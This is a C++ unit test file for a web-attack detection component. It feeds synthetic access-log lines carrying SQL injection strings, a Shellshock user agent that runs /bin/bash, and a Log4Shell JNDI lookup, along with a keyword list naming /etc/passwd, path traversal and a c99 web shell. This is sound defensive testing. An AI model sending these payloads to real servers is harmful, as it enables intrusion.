#include "request_rules.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <random>

#include "rescue/evidence/access_log.hpp"

namespace rescue::detect {
namespace {

std::vector<std::string> meant(const std::string& target, const std::string& agent = "curl/7.88.1") {
  static const auto book = RuleBook::shipped();
  static const RequestRules rules(book);
  const auto line = "203.0.113.45 - - [13/Sep/2026:02:12:00 +0000] \"GET " + target +
                    " HTTP/1.1\" 200 9 \"-\" \"" + agent + "\"";
  evidence::Event event;
  event.excerpt = line;
  EXPECT_TRUE(evidence::parse_access_line(line, event)) << line;
  std::vector<std::string> ids;
  for (const auto place : rules.judge(event)) ids.push_back(rules.rules()[place]->id);
  return ids;
}
using Ids = std::vector<std::string>;

TEST(RequestRules, SeeThroughOneAndTwoEncodingsAndCase) {
  for (const auto* target : {"/?id=1'%20union%20select%201%20from%20x", "/?id=1%27+UnIoN+SeLeCt+1+FROM+x",
                             "/?id=1%2527%2520union%2520select%25201%2520from%2520x"})
    EXPECT_EQ(meant(target), Ids{"web.sql_injection"}) << target;
}

TEST(RequestRules, ReadAgentsAndReferrersWhereTheyHaveBraces) {
  EXPECT_EQ(meant("/", "() { :; }; /bin/bash -c id"), (Ids{"web.command_injection", "web.shellshock"}));
  EXPECT_EQ(meant("/", "${jndi:ldap://198.51.100.250/a}"), Ids{"web.lookup_injection"});
  EXPECT_EQ(meant("/", "union select from"), Ids{});
}

TEST(RequestRules, LeaveOrdinaryRequestsAlone) {
  for (const auto* target :
       {"/", "/index.php?id=5", "/?s=union+of+select+clubs", "/wp-content/uploads/2026/01/a.jpg",
        "/blog/how-to-use-wget-and-curl/", "/search?q=100%25+cotton", "/%E3%81%82/"})
    EXPECT_EQ(meant(target), Ids{}) << target;
}

TEST(GramFilter, MissesNothingThatSearchingEachWordFinds) {
  const std::vector<std::string> words = {"/etc/passwd", "../../", "select", "${jndi:", "/c99.php", "() {"};
  const GramFilter filter(words);
  std::mt19937 random(7);  // NOLINT(cert-msc32-c,cert-msc51-cpp): the same each time
  const auto draw = [&](std::size_t below) { return static_cast<std::size_t>(random()) % below; };
  std::size_t passed = 0;
  constexpr int kTexts = 20'000;
  for (int i = 0; i < kTexts; ++i) {
    std::string text;
    for (auto left = draw(60); left > 0; --left) text += "abcdefghij/.-012?=&"[draw(19)];
    const bool has = draw(4) == 0;
    auto word = words[draw(words.size())];
    if (draw(2) == 0) std::transform(word.begin(), word.end(), word.begin(), ::toupper);
    if (has) text.insert(draw(text.size() + 1), word);
    const bool may = filter.may_hold_any(text);
    EXPECT_TRUE(may || !has) << text;
    passed += may && !has ? 1 : 0;
  }
  EXPECT_LT(passed, kTexts / 100);
  EXPECT_THROW(GramFilter({"abc"}), std::logic_error);
}

}  // namespace
}  // namespace rescue::detect
